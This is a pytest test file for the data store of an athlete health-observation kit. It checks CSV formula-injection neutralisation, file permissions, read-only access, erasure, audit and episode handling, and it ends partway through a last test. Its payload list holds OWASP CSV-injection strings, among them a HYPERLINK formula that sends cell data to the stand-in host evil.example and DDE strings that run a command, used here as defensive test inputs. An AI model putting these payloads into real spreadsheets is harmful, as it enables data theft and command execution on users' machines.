"""Issue 11 (store side): attacks on the files the kit writes and reads, each reproduced first.

Item 3 CSV formula injection, item 4 duplicate columns, item 5 file modes, item 9 read-only
stores, item 10 correction / erasure / audit; also rule_set and episodes in the store.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from kit.cli import main
from kit.store import Store

ROOT = Path(__file__).resolve().parents[1]

#: OWASP "CSV Injection" payloads (issue 11 item 3)
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''+twice", "'plain apostrophe"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def kit(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "KIT_STORE"}
    return subprocess.run([sys.executable, "-m", "kit", *args], input=stdin, capture_output=True, text=True, cwd=ROOT,
                          env=env, timeout=300)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(DANGER) or _is_number(cell), f"formula cell {cell!r} written unescaped"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _hostile_store(tmp_path: Path) -> Store:
    st = Store(tmp_path / "s.sqlite")
    for i, p in enumerate(PAYLOADS):
        st.save({"athlete_id": p.strip() or f"A{i}", "observed_at": f"2026-05-01T09:{i:02d}:00", "notes": p, "tremor": True,
                 "ambient_temp_c": -4.5})
    return st


# ---- item 3: CSV formula injection -------------------------------------------------------------

def test_log_export_csv_neutralises_formulas_but_keeps_negative_numbers(tmp_path):
    st = _hostile_store(tmp_path)
    text = st.export_text("csv")
    _assert_no_formula(text)
    rows = _cells(text)
    col = rows[0].index("ambient_temp_c")
    assert {r[col] for r in rows[1:]} == {"-4.5"}  # a negative number stays a number
    notes = [r[rows[0].index("notes")] for r in rows[1:]]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in notes and "'\t=1+1" in notes


def test_export_import_export_round_trip_restores_the_original_text_exactly(tmp_path):
    st = _hostile_store(tmp_path)
    first = st.export_text("csv")
    (tmp_path / "e.csv").write_text(first, encoding="utf-8", newline="")
    with Store(tmp_path / "t.sqlite") as st2:
        st2.import_csv(tmp_path / "e.csv")
        assert [o["notes"] for o in st2.observations()] == [o["notes"] for o in st.observations()]
        assert sorted(o["notes"] for o in st2.observations()) == sorted(p.replace("\r", "\n") for p in PAYLOADS)
        assert st2.export_text("csv") == first


def test_score_out_neutralises_formulas(tmp_path):
    st = _hostile_store(tmp_path)
    st.export("csv", tmp_path / "e.csv")
    out = tmp_path / "scored.csv"
    assert main(["score", str(tmp_path / "e.csv"), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    _assert_no_formula(text)
    assert "'=HYPERLINK" in text
    r = kit("score", str(tmp_path / "e.csv"))  # standard output too
    assert r.returncode == 0, r.stderr
    _assert_no_formula(r.stdout)


def test_reject_file_neutralises_formulas_and_re_imports_the_same_cells(tmp_path):
    src = tmp_path / "team.csv"
    src.write_text('athlete_id,pain_score,notes\n"=1+1",11,"@SUM(A1)"\nB,2,"-x"\n', encoding="utf-8")
    with Store(tmp_path / "s.sqlite") as st:
        report = st.import_csv(src, skip_bad=True)
        rej = report.rejects_path.read_text(encoding="utf-8")
        _assert_no_formula(rej)
        assert "'=1+1" in rej and "'@SUM(A1)" in rej
        fixed = rej.replace(",11,", ",1,")
        report.rejects_path.write_text(fixed, encoding="utf-8")
        st.import_csv(report.rejects_path)
        assert [(o["athlete_id"], o.get("notes")) for o in st.observations()] == [("B", "-x"), ("=1+1", "@SUM(A1)")]


# ---- item 4: duplicate column names ------------------------------------------------------------

def test_a_repeated_column_is_an_error_naming_it_exit_2_and_nothing_stored(tmp_path):
    src = tmp_path / "dup.csv"
    src.write_text("athlete_id,tremor,athlete_id,notes,notes\nATH-01,true,ATH-99,a,b\n", encoding="utf-8")
    store = tmp_path / "s.sqlite"
    r = kit("log", "import", str(src), "--store", str(store))
    assert r.returncode == 2 and r.stdout == "", r
    assert "athlete_id" in r.stderr and "notes" in r.stderr and "more than once" in r.stderr
    assert not store.exists() or Store(store).count() == 0
    r = kit("log", "import", str(src), "--skip-bad", "--store", str(store))  # not a bad row: the whole file is refused
    assert r.returncode == 2 and (not store.exists() or Store(store).count() == 0)
    r = kit("score", str(src))
    assert r.returncode == 2 and r.stdout == "" and "athlete_id" in r.stderr and "more than once" in r.stderr


# ---- item 5: health data is 0600 / 0700 whatever the umask -------------------------------------

def _mode(p: Path) -> int:
    return p.stat().st_mode & 0o777


@pytest.fixture(params=[0o022, 0o000], ids=["umask022", "umask000"])
def umask(request):
    old = os.umask(request.param)
    yield request.param
    os.umask(old)


def _assert_private(files: list[Path], dirs: list[Path]) -> None:
    assert files and all(f.exists() for f in files), files
    assert {str(f): oct(_mode(f)) for f in files} == {str(f): oct(0o600) for f in files}
    assert {str(d): oct(_mode(d)) for d in dirs} == {str(d): oct(0o700) for d in dirs}


def test_store_and_its_wal_shm_journal_files_are_0600_in_0700_folders(tmp_path, umask):
    path = tmp_path / "club" / "season" / "s.sqlite"
    with Store(path) as st:
        st.save({"athlete_id": "ATH-01", "tremor": True})
        _assert_private([path, Path(f"{path}-wal"), Path(f"{path}-shm")], [tmp_path / "club", tmp_path / "club" / "season"])
    import sqlite3
    conn = sqlite3.connect(path, isolation_level=None)  # a rollback journal (as after 'PRAGMA journal_mode=DELETE')
    conn.execute("PRAGMA journal_mode = DELETE")
    conn.execute("BEGIN IMMEDIATE")
    conn.execute("INSERT INTO meta (key, value) VALUES ('x', 'y')")
    _assert_private([Path(f"{path}-journal")], [])
    conn.execute("ROLLBACK")
    conn.close()


def test_an_existing_world_readable_store_is_made_0600_when_opened_for_writing(tmp_path, umask):
    path = tmp_path / "s.sqlite"
    Store(path).save({"athlete_id": "ATH-01", "tremor": True})
    for p in tmp_path.iterdir():
        os.chmod(p, 0o644)
    with Store(path) as st:
        st.save({"athlete_id": "ATH-02", "tremor": True})
        _assert_private([path, Path(f"{path}-wal"), Path(f"{path}-shm")], [])


def test_exports_reject_files_and_log_csvs_are_0600_in_0700_folders(tmp_path, umask):
    from kit.store.csvio import write_log_csv

    with Store(tmp_path / "s.sqlite") as st:
        st.save({"athlete_id": "ATH-01", "tremor": True})
        st.export("csv", tmp_path / "e1" / "log.csv")
        st.export("json", tmp_path / "e2" / "log.json")
        bad = tmp_path / "bad.csv"
        bad.write_text("athlete_id,pain_score\nA,11\nB,1\n", encoding="utf-8")
        report = st.import_csv(bad, skip_bad=True, rejects=tmp_path / "rej" / "r.csv")
    write_log_csv([{"athlete_id": "A"}], tmp_path / "w.csv")
    _assert_private([tmp_path / "e1" / "log.csv", tmp_path / "e2" / "log.json", report.rejects_path, tmp_path / "w.csv"],
                    [tmp_path / "e1", tmp_path / "e2", tmp_path / "rej"])


def test_score_out_is_0600_in_a_0700_folder(tmp_path, umask):
    out = tmp_path / "scores" / "scored.csv"
    assert main(["score", str(ROOT / "data" / "sample-team-log.csv"), "--out", str(out)]) == 0
    _assert_private([out], [tmp_path / "scores"])


def _kit_umask(*args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "KIT_STORE"}
    return subprocess.run([sys.executable, "-m", "kit", *args], capture_output=True, text=True, cwd=ROOT, env=env,
                          timeout=300, preexec_fn=lambda: os.umask(0o022))


def test_handouts_and_exported_notebooks_are_0600_in_0700_folders(tmp_path):
    import nbformat

    r = _kit_umask("handout", "--log", str(ROOT / "data" / "sample-team-log.csv"), "--athlete", "ATH-07",
                   "--out", str(tmp_path / "handouts" / "team"), "--date", "2026-11-01")
    assert r.returncode == 0, r.stderr
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("ATH-07 notes")])
    nbformat.write(nb, tmp_path / "nb.ipynb")
    r2 = _kit_umask("export", str(tmp_path / "nb.ipynb"), "--out", str(tmp_path / "exported"))
    assert r2.returncode == 0, r2.stderr
    _assert_private([Path(r.stdout.strip()), tmp_path / "exported" / "nb.html"],
                    [tmp_path / "handouts", tmp_path / "handouts" / "team", tmp_path / "exported"])


# ---- item 9: read-only stores can be read; messages say what is wrong --------------------------

NOBODY = 65534


def _as_reader(*args: str) -> subprocess.CompletedProcess:
    """``python -m kit ARGS`` as a user without write permission (root ignores modes: run as 'nobody')."""
    env = {k: v for k, v in os.environ.items() if k != "KIT_STORE"}
    env["PYTHONPATH"] = str(ROOT)
    cmd = [sys.executable, "-m", "kit", *args]
    if os.geteuid() == 0:
        cmd = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *cmd]
    return subprocess.run(cmd, capture_output=True, text=True, cwd="/", env=env, timeout=300)


def _read_only_tree(folder: Path, file_mode: int = 0o400) -> None:
    for p in [folder, *folder.iterdir()]:
        if os.geteuid() == 0:
            os.chown(p, NOBODY, NOBODY)
    for p in folder.iterdir():
        os.chmod(p, file_mode)
    os.chmod(folder, 0o555)


@pytest.fixture
def open_tmp():
    """A temporary folder every user can reach (pytest's tmp_path is private to root)."""
    import shutil
    import tempfile

    d = Path(tempfile.mkdtemp(prefix="kit-ro-"))
    os.chmod(d, 0o755)
    yield d
    for p in [d, *d.rglob("*")]:
        if p.is_dir():
            os.chmod(p, 0o755)
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture
def ro_store(open_tmp):
    folder = open_tmp / "ro"
    with Store(folder / "s.sqlite") as st:
        st.save({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:30:00", "tremor": True})
        st.save({"athlete_id": "ATH-02", "observed_at": "2026-05-01T09:40:00", "spasm": True})
    _read_only_tree(folder)
    return folder / "s.sqlite"


def test_read_only_commands_work_on_a_read_only_folder_and_file(ro_store):
    r = _as_reader("log", "list", "--store", str(ro_store))
    assert r.returncode == 0, r.stderr
    assert "ATH-01" in r.stdout and "ATH-02" in r.stdout
    r = _as_reader("log", "info", "--store", str(ro_store))
    assert r.returncode == 0 and "observations: 2" in r.stdout and "integrity check: ok" in r.stdout, r.stderr
    r = _as_reader("log", "export", "--format", "json", "--store", str(ro_store))
    assert r.returncode == 0 and [o["athlete_id"] for o in json.loads(r.stdout)] == ["ATH-01", "ATH-02"], r.stderr
    assert sorted(p.name for p in ro_store.parent.iterdir()) == ["s.sqlite"]  # nothing created beside it
    obs = ro_store.parent.parent / "o.json"
    obs.write_text('{"athlete_id": "ATH-03", "tremor": true}', encoding="utf-8")
    os.chmod(obs, 0o644)
    r = _as_reader("log", "add", str(obs), "--store", str(ro_store))  # writing is refused, saying why
    assert r.returncode == 1 and "read-only" in r.stderr and "Traceback" not in r.stderr, r.stderr


def test_read_only_commands_say_what_is_actually_wrong(open_tmp):
    tmp_path = open_tmp
    r = _as_reader("log", "list", "--store", str(tmp_path / "missing.sqlite"))
    assert r.returncode == 1 and "no store at" in r.stderr
    r = _as_reader("log", "list", "--store", str(tmp_path))
    assert r.returncode == 1 and "is a folder" in r.stderr and "not writable" not in r.stderr
    junk = tmp_path / "junk.sqlite"
    junk.write_text("athlete_id,tremor\nA,true\n" * 50, encoding="utf-8")
    os.chmod(junk, 0o644)
    r = _as_reader("log", "info", "--store", str(junk))
    assert r.returncode == 1 and "not a SQLite file" in r.stderr, r.stderr
    folder = tmp_path / "locked"
    with Store(folder / "s.sqlite") as st:
        st.save({"athlete_id": "ATH-01", "tremor": True})
    _read_only_tree(folder, file_mode=0o000)
    r = _as_reader("log", "export", "--format", "csv", "--store", str(folder / "s.sqlite"))
    assert r.returncode == 1 and "no permission to read" in r.stderr, r.stderr


# ---- item 10: correction, erasure, audit -------------------------------------------------------

def test_correct_supersedes_the_old_observation_which_is_kept_but_not_shown(tmp_path):
    store = tmp_path / "s.sqlite"
    with Store(store) as st:
        old = st.save({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:30:00", "pain_score": 9, "spasm": True})
        st.save({"athlete_id": "ATH-02", "observed_at": "2026-05-01T09:35:00", "tremor": True})
    fixed = tmp_path / "fixed.json"
    fixed.write_text(json.dumps({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:30:00", "pain_score": 3, "spasm": True}))
    r = kit("log", "correct", str(old), str(fixed), "--store", str(store))
    assert r.returncode == 0, r.stderr
    assert f"corrects #{old}" in r.stdout
    with Store(store) as st:
        assert [o.get("pain_score") for o in st.observations("ATH-01")] == [3]
        assert st.count() == 2 and len(st.entries(include_superseded=True)) == 3
        kept = st.get(old)
        assert kept["observation"]["pain_score"] == 9 and kept["superseded_by"] is not None
        assert st.get(kept["superseded_by"])["supersedes"] == old
        assert '"pain_score": 9' not in st.export_text("json")
    r = kit("log", "list", "--store", str(store))
    assert r.returncode == 0 and f"\n{old} " not in r.stdout and "2 observations" in r.stdout
    r = kit("log", "list", "--all", "--store", str(store))
    assert r.returncode == 0 and f"superseded by #{kept['superseded_by']}" in r.stdout
    r = kit("log", "correct", str(old), str(fixed), "--store", str(store))  # an old version cannot be corrected again
    assert r.returncode == 2 and f"#{kept['superseded_by']}" in r.stderr
    r = kit("log", "correct", "999", str(fixed), "--store", str(store))
    assert r.returncode == 2 and "no observation #999" in r.stderr


def _raw_bytes(store: Path) -> bytes:
    return b"".join(p.read_bytes() for p in store.parent.iterdir() if p.name.startswith(store.name))


def test_erase_athlete_leaves_no_readable_copy_in_the_file_or_its_wal(tmp_path):
    store = tmp_path / "s.sqlite"
    secret_id, secret_note = "ZZ-ERASE-ME-77", "confided: diabetic, hides insulin pump"
    with Store(store) as st:
        for i in range(30):
            st.save({"athlete_id": secret_id, "observed_at": f"2026-05-01T09:{i:02d}:00", "notes": secret_note, "tremor": True})
            st.save({"athlete_id": "ATH-KEEP", "observed_at": f"2026-05-01T10:{i:02d}:00", "notes": "kept note", "spasm": True})
        st.save_draft({"athlete_id": secret_id, "notes": secret_note})
        first = st.athletes()
        old = st.entries(secret_id)[0]["id"]
        fixed = {"athlete_id": secret_id, "observed_at": "2026-05-01T09:00:00", "notes": secret_note + " (fixed)"}
        st.correct(old, fixed)
        assert secret_id.encode() in _raw_bytes(store)
        r = kit("log", "erase", "--athlete", secret_id, "--store", str(store), stdin="")
        assert r.returncode == 2 and "--yes" in r.stderr and st.count(secret_id) == 30  # no confirmation: nothing erased
    r = kit("log", "erase", "--athlete", secret_id, "--store", str(store), stdin="yes\n")
    assert r.returncode == 0, r.stderr
    assert "erased 31 observations and 1 draft" in r.stdout
    raw = _raw_bytes(store)
    assert secret_id.encode() not in raw and secret_note.encode() not in raw and b"insulin" not in raw
    with Store(store) as st:
        assert st.athletes() == [a for a in first if a != secret_id] and st.count() == 30
        assert st.load_draft() is None and st.integrity_check() == "ok"
        audit = st.audit()
    erased = [a for a in audit if a["action"] == "erase"]
    assert erased and erased[-1]["rows"] == 31 and secret_id not in json.dumps(audit)
    assert b"kept note" in _raw_bytes(store)


def test_erase_one_observation_by_id_with_yes(tmp_path):
    store = tmp_path / "s.sqlite"
    with Store(store) as st:
        a = st.save({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:30:00", "notes": "wrong person QQ-NOTE"})
        b = st.save({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:40:00", "tremor": True})
    r = kit("log", "erase", "--id", str(a), "--yes", "--store", str(store))
    assert r.returncode == 0, r.stderr
    with Store(store) as st:
        assert [e["id"] for e in st.entries()] == [b]
    assert b"QQ-NOTE" not in _raw_bytes(store)
    r = kit("log", "erase", "--id", str(a), "--yes", "--store", str(store))
    assert r.returncode == 2 and f"no observation #{a}" in r.stderr


def test_audit_records_who_did_what_and_when_without_health_data(tmp_path):
    store = tmp_path / "s.sqlite"
    obs = tmp_path / "o.json"
    obs.write_text(json.dumps([{"athlete_id": "ZZ-01", "notes": "SECRET-NOTE", "tremor": True},
                               {"athlete_id": "ZZ-02", "spasm": True}]))
    assert kit("log", "add", str(obs), "--store", str(store)).returncode == 0
    assert kit("log", "import", str(ROOT / "data" / "sample-team-log.csv"), "--store", str(store)).returncode == 0
    assert kit("log", "export", "--format", "csv", "--out", str(tmp_path / "e.csv"), "--store", str(store)).returncode == 0
    assert kit("log", "export", "--format", "json", "--store", str(store)).returncode == 0
    fixed = tmp_path / "f.json"
    fixed.write_text(json.dumps({"athlete_id": "ZZ-01", "tremor": False}))
    assert kit("log", "correct", "1", str(fixed), "--store", str(store)).returncode == 0
    assert kit("log", "erase", "--athlete", "ZZ-02", "--yes", "--store", str(store)).returncode == 0
    n07 = Store(store, read_only=True).count("ATH-07")
    r = kit("handout", "--log", str(store), "--athlete", "ATH-07", "--out", str(tmp_path / "h"), "--date", "2026-11-01")
    assert r.returncode == 0, r.stderr
    r = kit("log", "audit", "--json", "--store", str(store))
    assert r.returncode == 0, r.stderr
    rows = json.loads(r.stdout)
    assert [(a["action"], a["rows"]) for a in rows] == [("add", 2), ("import", 322), ("export", 324), ("export", 324),
                                                        ("correct", 1), ("erase", 1), ("handout", n07)]
    import getpass
    assert {a["os_user"] for a in rows} == {getpass.getuser()} and all(a["at"].endswith("+00:00") for a in rows)
    text = json.dumps(rows)
    assert "SECRET-NOTE" not in text and "ZZ-01" not in text and "ZZ-02" not in text and "ATH-07" not in text
    r = kit("log", "audit", "--store", str(store))
    assert r.returncode == 0 and "erase" in r.stdout and "7 audit entries" in r.stdout


# ---- rule_set and episodes in the store (issue 11 item 6 of the brief; issue 12 item 2) ----------

def test_rule_set_is_stored_with_each_assessment_and_shown(tmp_path):
    store = tmp_path / "s.sqlite"
    with Store(store) as st:
        a = st.save({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:30:00", "tremor": True})  # engine without rule_set
        shown = {**st.get(a)["assessment"], "rule_set": "0.2"}
        b = st.save({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:45:00", "tremor": True}, assessment=shown)
        from kit.engine.assessment import assess
        want = str(assess({"tremor": True}).to_dict().get("rule_set") or "0.1")
        assert [e["rule_set"] for e in st.entries()] == [want, "0.2"]
        assert st.history()["rule_set"].tolist() == [want, "0.2"]
    r = kit("log", "list", "--store", str(store))
    assert r.returncode == 0 and "rules" in r.stdout.splitlines()[0] and " 0.2 " in r.stdout
    r = kit("log", "list", "--json", "--store", str(store))
    assert [e["rule_set"] for e in json.loads(r.stdout)] == [want, "0.2"] and b


def test_episode_tiers_follow_the_contracts_five_tier_order():
    from kit.engine.rules import TIERS
    from kit.store.episodes import ESCALATION_ORDER

    assert ESCALATION_ORDER == ("self_care", "monitor", "see_doctor", "urgent", "emergency")
    assert [t for t in ESCALATION_ORDER if t in TIERS] == list(TIERS)  # the engine's tiers, in the same order


def _entry(i, episode, at, tier, treat=None, athlete="ATH-05"):
    obs = {"athlete_id": athlete, "observed_at": at, "episode_id": episode}
    if treat is not None:
        obs["treatment_given"] = treat
    return {"id": i, "observation": obs, "assessment": {"escalation": tier}}


def test_episode_summary_start_end_tiers_treatments_and_resolution():
    from kit.store.episodes import summarise_episodes

    entries = [_entry(1, "E1", "2026-05-01T16:28:00", "monitor", ["oral_carbohydrate"]),
               _entry(2, "E2", "2026-05-01T16:30:00", "see_doctor", "stretch;rest", athlete="ATH-06"),
               _entry(3, "E1", "2026-05-01T16:43:00", "urgent", ["oral_carbohydrate", "oral_carbohydrate"]),
               _entry(4, None, "2026-05-01T16:50:00", "emergency"),
               _entry(5, "E1", "2026-05-01T16:58:00", "emergency"),
               _entry(6, "E2", "2026-05-01T17:00:00", "self_care")]
    e1, e2 = summarise_episodes(entries)
    assert (e1.episode_id, e1.start, e1.end, e1.entries, e1.highest_tier, e1.final_tier) == (
        "E1", "2026-05-01T16:28:00", "2026-05-01T16:58:00", 3, "emergency", "emergency")
    assert e1.treatments == {"oral_carbohydrate": 2} and e1.minutes_to_resolution is None and e1.ids == [1, 3, 5]
    assert (e2.highest_tier, e2.final_tier, e2.minutes_to_resolution, e2.treatments) == ("see_doctor", "self_care", 30.0,
                                                                                        {"stretch": 1, "rest": 1})
    assert e2.athlete_id == "ATH-06"


def test_episode_id_column_is_filled_from_stored_observations_indexed_and_listed(tmp_path):
    """A store written before migration 4 holding v0.2 observations: the column is back-filled."""
    import sqlite3

    from kit.store.schema import MIGRATIONS

    p = tmp_path / "v3.sqlite"
    db = sqlite3.connect(p, isolation_level=None)
    db.execute("CREATE TABLE schema_version (version INTEGER PRIMARY KEY, description TEXT NOT NULL, applied_at TEXT NOT NULL, "
               "kit_version TEXT NOT NULL)")
    for v in (1, 2, 3):
        MIGRATIONS[v][1](db)
        db.execute("INSERT INTO schema_version VALUES (?, 'old', '2026-01-01T00:00:00+00:00', '0.1.0')", (v,))
    rows = [("ATH-05", "2026-05-01T16:28:00", {"episode_id": "EP-1", "treatment_given": ["oral_carbohydrate"]}, "monitor", None),
            ("ATH-05", "2026-05-01T16:43:00", {"episode_id": "EP-1", "treatment_given": ["oral_carbohydrate"]}, "urgent", "0.2"),
            ("ATH-05", "2026-05-01T16:58:00", {"episode_id": "EP-1"}, "emergency", "0.2"),
            ("ATH-06", "2026-05-01T17:00:00", {}, "self_care", None)]
    for aid, at, extra, tier, rs in rows:
        obs = {"athlete_id": aid, "observed_at": at, **extra}
        shown = {"escalation": tier, **({"rule_set": rs} if rs else {})}
        db.execute("INSERT INTO observations (athlete_id, observed_at, observed_sort, observation_json, assessment_json, "
                   "escalation, kit_version, saved_at) VALUES (?, ?, ?, ?, ?, ?, '0.1.0', 'x')",
                   (aid, at, at + ".000000", json.dumps(obs), json.dumps(shown), tier))
    db.close()
    with Store(p) as st:
        assert [e["episode_id"] for e in st.entries()] == ["EP-1", "EP-1", "EP-1", None]
        assert [e["rule_set"] for e in st.entries()] == ["0.1", "0.2", "0.2", "0.1"]
        plan = " ".join(str(r) for r in st._read("EXPLAIN QUERY PLAN SELECT id FROM observations WHERE episode_id = ?", ("EP-1",)))
        assert "ix_observations_episode" in plan
    r = kit("log", "list", "--episode", "EP-1", "--store", str(p))
    assert r.returncode == 0 and "3 observations in episode 'EP-1'" in r.stdout and "ATH-06" not in r.stdout
    r = kit("log", "episodes", "--store", str(p))
    assert r.returncode == 0, r.stderr
    line = next(x for x in r.stdout.splitlines() if x.startswith("EP-1"))
    assert "2026-05-01T16:28:00" in line and "2026-05-01T16:58:00" in line and "emergency" in line
    assert "oral_carbohydrate x2" in line and "not resolved" in line and "1 episode in" in r.stdout
    r = kit("log", "episodes", "--athlete", "ATH-06", "--json", "--store", str(p))
    assert r.returncode == 0 and json.loads(r.stdout) == []


needs_v02 = pytest.mark.skipif("episode_id" not in __import__("kit.engine.fields", fromlist=["FIELDS"]).FIELDS,
                               reason="episode_id/treatment_given arrive with the engine branch (contract v0.2)")


@needs_v02
def test_episode_entries_are_saved_one_by_one_and_survive_export_and_import(tmp_path):
    store = tmp_path / "s.sqlite"
    entries = [{"athlete_id": "ATH-05", "observed_at": "2026-05-01T16:28:00", "episode_id": "EP-9", "blood_glucose": 60,
                "blood_glucose_unit": "mg/dL", "treatment_given": ["oral_carbohydrate"]},
               {"athlete_id": "ATH-05", "observed_at": "2026-05-01T16:43:00", "episode_id": "EP-9", "blood_glucose": 62,
                "blood_glucose_unit": "mg/dL", "treatment_given": ["oral_carbohydrate"]},
               {"athlete_id": "ATH-05", "observed_at": "2026-05-01T16:58:00", "episode_id": "EP-9", "blood_glucose": 64,
                "blood_glucose_unit": "mg/dL"}]
    with Store(store) as st:
        for e in entries:
            st.save(e)  # one transaction each: a crash after the first save keeps it
            assert st.count() == entries.index(e) + 1
        (ep,) = st.episodes()
        assert ep.entries == 3 and ep.treatments == {"oral_carbohydrate": 2}
        for fmt in ("csv", "json"):
            st.export(fmt, tmp_path / f"e.{fmt}")
            with Store(tmp_path / f"t-{fmt}.sqlite") as st2:
                (st2.import_csv if fmt == "csv" else st2.import_json)(tmp_path / f"e.{fmt}")
                assert [e["episode_id"] for e in st2.entries()] == ["EP-9"] * 3
                assert st2.export_text(fmt) == st.export_text(fmt)


def test_export_with_assessment_shows_the_rule_set_and_its_csv_imports_as_observations(tmp_path):
    store = tmp_path / "s.sqlite"
    with Store(store) as st:
        a = st.save({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:30:00", "tremor": True, "notes": "=1+1"})
        st.save({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:45:00", "spasm": True},
                assessment={**st.get(a)["assessment"], "rule_set": "0.2"})
        plain = st.export_text("csv")
    r = kit("log", "export", "--format", "csv", "--with-assessment", "--store", str(store))
    assert r.returncode == 0, r.stderr
    rows = _cells(r.stdout)
    assert rows[0][-6:] == ["escalation", "top_cause", "flags", "rule_set", "kit_version", "saved_at"]
    assert [x[rows[0].index("rule_set")] for x in rows[1:]][1] == "0.2"
    _assert_no_formula(r.stdout)
    (tmp_path / "w.csv").write_text(r.stdout, encoding="utf-8", newline="")
    with Store(tmp_path / "t.sqlite") as st2:
        st2.import_csv(tmp_path / "w.csv")
        assert st2.export_text("csv") == plain
    r = kit("log", "export", "--format", "json", "--with-assessment", "--store", str(store))
    assert [e["rule_set"] for e in json.loads(r.stdout)][1] == "0.2"


# ---- item 8 (import part): streaming import in bounded memory, still all or nothing --------------

def _team_csv(path: Path, rows: int) -> Path:
    sys.path.insert(0, str(ROOT / "benchmarks"))
    import import_bench

    import_bench.write_log(path, rows)
    return path


def test_import_streams_in_bounded_memory(tmp_path):
    import tracemalloc

    src = _team_csv(tmp_path / "big.csv", 8000)
    with Store(tmp_path / "s.sqlite") as st:
        st.count()
        tracemalloc.start()
        report = st.import_csv(src, chunk_rows=500, workers=1)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert len(report.ids) == 8000 and st.count() == 8000
    # holding every row at once (the file, 8,000 records and their ~2 KB assessments) takes over 25 MB
    assert peak < 8 * 2**20, f"peak {peak / 2**20:.1f} MB"


def test_a_bad_row_in_a_later_chunk_stores_nothing_and_skip_bad_keeps_every_good_row(tmp_path):
    src = _team_csv(tmp_path / "t.csv", 40)
    lines = src.read_text(encoding="utf-8").splitlines(keepends=True)
    k = next(i for i in range(37, len(lines)) if '"' not in lines[i] and '"' not in lines[i - 1])  # a whole record
    bad = k + 1  # its file line (a note with a line break earlier shifts it past 38)
    cells = lines[k].rstrip("\n").split(",")
    cells[7] = "12"  # pain_score out of range on line `bad`
    lines[k] = ",".join(cells) + "\n"
    cells = lines[5].rstrip("\n").split(",")
    cells[7] = "-1"  # and line 6
    lines[5] = ",".join(cells) + "\n"
    src.write_text("".join(lines), encoding="utf-8")
    with Store(tmp_path / "s.sqlite") as st:
        with pytest.raises(Exception, match="2 bad rows, nothing was stored") as ei:
            st.import_csv(src, chunk_rows=4)
        assert {p.row for p in ei.value.problems} == {6, bad}
        assert st.count() == 0 and not (tmp_path / "t.csv.rejects.csv").exists()
        assert [a["action"] for a in st.audit()] == []
        report = st.import_csv(src, chunk_rows=4, skip_bad=True)
        assert len(report.ids) == 38 and report.n_bad == 2 and st.count() == 38
        rej = _cells(report.rejects_path.read_text(encoding="utf-8"))
        assert [r[0] for r in rej[1:]] == ["6", str(bad)] and rej[1][2:] == lines[5].rstrip("\n").split(",")
        dups = st.import_csv(src, chunk_rows=4, skip_bad=True).duplicates  # (a note with a line break spans two lines)
        assert len(dups) == 38 and not {6, bad} & set(dups) and st.count() == 38


def test_import_with_worker_processes_stores_what_one_process_stores(tmp_path):
    src = _team_csv(tmp_path / "t.csv", 300)
    with Store(tmp_path / "a.sqlite") as a, Store(tmp_path / "b.sqlite") as b:
        a.import_csv(src, chunk_rows=40, workers=1)
        b.import_csv(src, chunk_rows=40, workers=2)
        assert a.export_text("csv") == b.export_text("csv")
        assert [e["assessment"] for e in a.entries()] == [e["assessment"] for e in b.entries()]


def test_import_benchmark_reports_rows_per_second_and_peak_memory():
    p = subprocess.run([sys.executable, str(ROOT / "benchmarks" / "import_bench.py"), "--rows", "1500", "--json"],
                       capture_output=True, text=True, cwd=ROOT, timeout=300)
    assert p.returncode == 0, p.stderr
    out = json.loads(p.stdout)
    assert out["rows"] == out["stored"] == 1500
    assert out["import_rows_per_s"] > 0 and out["peak_rss_mb"] > 0 and out["import_s"] > 0


def test_a_recheck_saved_without_its_assessment_is_assessed_with_its_episode_as_history(tmp_path, monkeypatch):
    """Contract v0.2: ``assess(obs, history=...)``; the store passes the episode's earlier entries (engine stand-in here)."""
    import kit.engine.assessment
    from kit import store as store_mod

    real = kit.engine.assessment.assess
    seen = []

    def assess(observation, history=None):
        seen.append([h["observed_at"] for h in history or []])
        return real({k: v for k, v in observation.items() if k != "episode_id"})

    monkeypatch.setattr(kit.engine.assessment, "assess", assess)
    monkeypatch.setattr(store_mod, "canonical_observation",
                        lambda raw, fill_time=False: dict(raw))  # v0.1 validation does not know episode_id yet
    with Store(tmp_path / "s.sqlite") as st:
        st.save({"athlete_id": "A", "observed_at": "2026-05-01T16:28:00", "episode_id": "E1", "tremor": True})
        st.save({"athlete_id": "A", "observed_at": "2026-05-01T16:30:00", "episode_id": "E2", "tremor": True})
        st.save_many([{"athlete_id": "A", "observed_at": "2026-05-01T16:43:00", "episode_id": "E1", "tremor": True},
                      {"athlete_id": "A", "observed_at": "2026-05-01T16:58:00", "episode_id": "E1", "tremor": True}])
        assert [e["episode_id"] for e in st.entries()] == ["E1", "E2", "E1", "E1"]
    assert seen == [[], [], ["2026-05-01T16:28:00"], ["2026-05-01T16:28:00", "2026-05-01T16:43:00"]]


def test_a_read_only_command_on_an_older_writable_store_upgrades_it_then_reads(tmp_path):
    import sqlite3

    from kit.store.schema import MIGRATIONS, SCHEMA_VERSION

